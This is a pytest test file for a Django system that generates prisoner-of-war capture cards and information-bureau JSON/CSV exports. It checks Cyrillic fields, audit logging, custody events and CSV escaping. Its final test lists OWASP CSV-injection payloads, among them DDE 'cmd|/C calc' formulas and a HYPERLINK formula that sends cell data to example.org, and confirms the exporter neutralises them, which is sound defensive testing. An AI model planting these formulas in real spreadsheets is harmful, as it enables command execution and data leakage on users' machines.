"""The capture card (Art. 70, Annex IV B) and the information-bureau export (Art. 122–123)."""

import csv
import io
import json
from datetime import timedelta
from typing import Any

import jsonschema
import pytest
from django.utils import timezone
from pypdf import PdfReader

from safepassage.audit.models import AuditEvent
from safepassage.programmes.roles import Role
from safepassage.reception import bureau, export
from safepassage.reception import services as reception
from safepassage.reception.models import CustodyEvent, Prisoner
from tests.conftest import audit_entries, refusal, text_of
from tests.fixtures.prisoners import received_case, register

pytestmark = pytest.mark.django_db

FULL = {
    "power": "Российская Федерация",
    "father_first_name": "Пётр",
    "place_of_birth": "Тверь",
    "family_address": "Тверь, ул. Советская, 1",
    "health": "slightly_wounded",
    "facility": "Лагерь №3",
    "prisoner_number": "PW-0042",
}


def pdf_text(pdf: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


def card(world, case):
    return reception.capture_card(case, user=world.staff[Role.RECEPTION], keyring=world.keyring)


def test_the_russian_card_carries_every_annex_iv_b_field_in_cyrillic(world, front, client):
    case = received_case(world, front, client)
    register(world, case, **FULL)
    text = pdf_text(card(world, case))
    labels = [
        "Держава, от которой зависит военнопленный",
        "Фамилия",
        "Имена (полностью)",
        "Имя отца",
        "Дата рождения",
        "Место рождения",
        "Воинское звание",
        "Личный номер",
        "Адрес семьи",
        "Взят в плен",
        "Состояние здоровья",
        "Мой нынешний адрес",
        "Дата",
        "Подпись",
        "КАРТОЧКА ВЗЯТИЯ В ПЛЕН ВОЕННОПЛЕННОГО",
    ]
    answers = [
        "Российская Федерация",
        "Жуковский",
        "Аркадий Петрович",
        "Пётр",
        "07.03.1994",
        "Тверь",
        "рядовой",
        "АБ-123456",
        "ул. Советская, 1",
        "Легко ранен",
        "Лагерь №3, PW-0042",
        reception.local_day(case.prisoner.captured_at).strftime("%d.%m.%Y")[
            :6
        ],  # day and month of capture
    ]
    missing = [s for s in labels + answers if s not in text]
    assert not missing, missing
    officer = world.staff[Role.RECEPTION]
    produced = audit_entries("reception.card_produced", case_ref=case.reference)
    assert produced == [(f"staff:{officer.pk}", {})]


def test_the_card_follows_the_prisoners_language_and_names_no_one_in_its_metadata(
    world, front, client
):
    case = received_case(world, front, client)
    register(world, case, language="en", power="Russian Federation")
    pdf = card(world, case)
    text = pdf_text(pdf)
    assert "CAPTURE CARD FOR PRISONER OF WAR" in text
    assert "Service number" in text
    assert "Жуковский" in text  # his name as he gave it
    metadata: Any = PdfReader(io.BytesIO(pdf)).metadata or {}
    assert "Жуковский" not in json.dumps({k: str(v) for k, v in metadata.items()})


def test_the_card_is_downloaded_from_the_reception_page(world, front, client, staff_client):
    case = received_case(world, front, client)
    officer = staff_client(Role.RECEPTION)
    early = officer.get(f"/en/staff/case/{case.reference}/reception/card.pdf")
    assert "Register the prisoner" in refusal(officer, early)
    register(world, case)
    response = officer.get(f"/en/staff/case/{case.reference}/reception/card.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert case.reference in response["Content-Disposition"]
    assert "Жуковский" not in response["Content-Disposition"]


def exported(world, only_new=False, fmt="json"):
    return bureau.bureau_export(
        world.programme,
        only_new=only_new,
        fmt=fmt,
        user=world.staff[Role.RECEPTION],
        keyring=world.keyring,
    )


def test_the_export_validates_against_its_schema_and_carries_later_events(world, front, client):
    first = received_case(world, front, client)
    register(world, first, **FULL)
    second = received_case(world, front, client, surname="Other")
    register(world, second, refused=["place_of_birth"])
    received_case(world, front, client, surname="Unregistered")  # not yet registered
    reception.add_event(
        first,
        kind="hospital",
        occurred_on=reception.local_day(timezone.now()),
        place="Госпиталь №1",
        details="",
        user=world.staff[Role.RECEPTION],
        keyring=world.keyring,
    )
    doc = exported(world)
    jsonschema.validate(doc, export.schema())
    assert [p["reference"] for p in doc["prisoners"]] == [first.reference, second.reference]
    one, two = doc["prisoners"]
    assert one["surname"] == "Жуковский"
    assert one["health"] == "slightly_wounded"
    assert one["events"] == [
        {
            "kind": "hospital",
            "date": reception.local_day(timezone.now()).isoformat(),
            "place": "Госпиталь №1",
            "details": None,
        }
    ]
    assert two["refused"] == ["place_of_birth"]
    assert two["place_of_birth"] is None
    event = AuditEvent.objects.get(action="reception.bureau_export")
    assert event.detail == {"prisoners": 2, "only_new": False, "format": "json"}


def test_only_new_sends_what_changed_since_the_last_export(world, front, client):
    case = received_case(world, front, client)
    register(world, case)
    assert len(exported(world, only_new=True)["prisoners"]) == 1
    assert exported(world, only_new=True)["prisoners"] == []
    reception.add_event(
        case,
        kind="transfer",
        occurred_on=reception.local_day(timezone.now()),
        place="Camp 5",
        details="",
        user=world.staff[Role.RECEPTION],
        keyring=world.keyring,
    )
    again = exported(world, only_new=True)["prisoners"]
    assert [e["kind"] for e in again[0]["events"]] == ["transfer"]
    reception.mark_card_sent(case, user=world.staff[Role.RECEPTION])
    assert exported(world, only_new=True)["prisoners"][0]["card_sent_on"]
    # Each format remembers its own last export: the CSV still owes everything.
    assert len(exported(world, only_new=True, fmt="csv")["prisoners"]) == 1
    assert exported(world, only_new=True, fmt="csv")["prisoners"] == []
    by_reception = f"staff:{world.staff[Role.RECEPTION].pk}"
    assert audit_entries("reception.event_recorded", case_ref=case.reference) == [
        (by_reception, {"kind": "transfer"})
    ]
    assert audit_entries("reception.card_sent", case_ref=case.reference) == [(by_reception, {})]


def test_an_empty_export_says_so_instead_of_downloading_nothing(world, front, client, staff_client):
    case = received_case(world, front, client)
    register(world, case)
    officer = staff_client(Role.RECEPTION)
    url = f"/en/staff/p/{world.programme.slug}/reception/export/"
    first = officer.post(url, {"format": "json", "only_new": "on"})
    assert first.status_code == 200
    assert first["Content-Type"].startswith("application/json")
    again = officer.post(url, {"format": "json", "only_new": "on"})
    assert again.status_code == 302
    desk = officer.get(again["Location"]).content.decode()
    assert text_of(desk, "action-notice").startswith(
        "Nothing new or changed since the last JSON export, "
    )
    assert text_of(desk, "last-export-json").startswith("Last JSON export: ")
    csv_export = officer.post(url, {"format": "csv", "only_new": "on"})
    assert csv_export.status_code == 200  # the CSV had not been sent yet


def test_the_csv_export_is_downloaded_with_one_row_per_record(world, front, client, staff_client):
    case = received_case(world, front, client)
    register(world, case, family_address='=HYPERLINK("x")')
    reception.add_event(
        case,
        kind="death",
        occurred_on=reception.local_day(timezone.now()),
        place="",
        details="",
        user=world.staff[Role.RECEPTION],
        keyring=world.keyring,
    )
    officer = staff_client(Role.RECEPTION)
    response = officer.post(
        f"/en/staff/p/{world.programme.slug}/reception/export/", {"format": "csv"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # spreadsheet programs read the file as UTF-8
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert [(r["record"], r["reference"]) for r in rows] == [
        ("prisoner", case.reference),
        ("event", case.reference),
    ]
    assert rows[0]["surname"] == "Жуковский"
    assert rows[1]["event_kind"] == "death"
    assert rows[0]["family_address"].startswith("'=")  # never run as a spreadsheet formula
    bad = officer.post(f"/en/staff/p/{world.programme.slug}/reception/export/", {"format": "xml"})
    assert bad.status_code == 400
    assert audit_entries("reception.bureau_export") == [
        (
            f"staff:{world.staff[Role.RECEPTION].pk}",
            {"prisoners": 1, "only_new": False, "format": "csv"},
        )
    ]


def test_an_event_before_the_capture_is_refused(world, front, client, staff_client):
    case = received_case(world, front, client)
    register(world, case)
    response = staff_client(Role.RECEPTION).post(
        f"/en/staff/case/{case.reference}/reception/event/",
        {"kind": "transfer", "occurred_on": "01.01.2001"},
    )
    assert response.status_code == 409
    assert "cannot be earlier than the capture" in response.content.decode()
    assert not Prisoner.objects.get(case=case).events.exists()
    assert audit_entries("reception.read", case_ref=case.reference) == [  # the page, again
        (f"staff:{world.staff[Role.RECEPTION].pk}", {})
    ]


def test_a_custody_event_is_never_in_the_future_and_is_corrected_not_rewritten(
    world, front, client, staff_client
):
    case = received_case(world, front, client)
    register(world, case)
    officer = staff_client(Role.RECEPTION)
    url = f"/en/staff/case/{case.reference}/reception/event/"
    tomorrow = reception.local_day(timezone.now()) + timedelta(days=1)
    future = officer.post(url, {"kind": "transfer", "occurred_on": tomorrow.strftime("%d.%m.%Y")})
    assert future.status_code == 409  # the form is shown again with what was typed
    assert "cannot be dated in the future" in text_of(future.content.decode(), "action-error")
    today = reception.local_day(timezone.now())
    officer.post(url, {"kind": "hospital", "occurred_on": today.strftime("%d.%m.%Y")})
    wrong = CustodyEvent.objects.get()
    officer.post(
        url,
        {"kind": "transfer", "occurred_on": today.strftime("%d.%m.%Y"), "corrects": wrong.pk},
    )
    right = CustodyEvent.objects.exclude(pk=wrong.pk).get()
    wrong.refresh_from_db()
    assert wrong.kind == "hospital"
    assert right.corrects == wrong
    page = officer.get(f"/en/staff/case/{case.reference}/reception/").content.decode()
    shown = today.strftime("%-d %b %Y")
    assert text_of(page, f"event-{wrong.pk}").startswith(
        f"{shown} Admitted to hospital (corrected)"
    )
    assert text_of(page, f"event-{right.pk}").startswith(
        f"{shown} Transfer (corrects Admitted to hospital, {shown})"
    )
    again = officer.post(
        url, {"kind": "release", "occurred_on": today.strftime("%d.%m.%Y"), "corrects": wrong.pk}
    )
    assert again.status_code == 400  # no longer offered: it is corrected already
    events = exported(world)["prisoners"][0]["events"]
    assert events[-1]["corrects"] == {"kind": "hospital", "date": today.isoformat()}
    audit = AuditEvent.objects.filter(case_ref=case.reference, action="reception.event_recorded")
    assert [e.detail for e in audit.order_by("seq")] == [
        {"kind": "hospital"},
        {"kind": "transfer", "corrects": wrong.pk},
    ]


# OWASP's CSV-injection payloads, with the leading spaces and full-width forms spreadsheets
# also run.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "@cmd|'/c calc'!_xlbgnm.A1",
    "   =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_csv_cell_starts_a_formula(payload):
    doc = {
        "prisoners": [
            {
                **{name: payload for name in export.RECORD_FIELDS},
                "refused": [],
                "card_sent_on": None,
                "events": [
                    {"kind": "transfer", "date": "2026-11-01", "place": payload, "details": payload}
                ],
            }
        ]
    }
    rows = list(csv.reader(io.StringIO(export.as_csv(doc))))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert cells
    assert all(cell.startswith("'") for cell in cells if payload in cell)
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
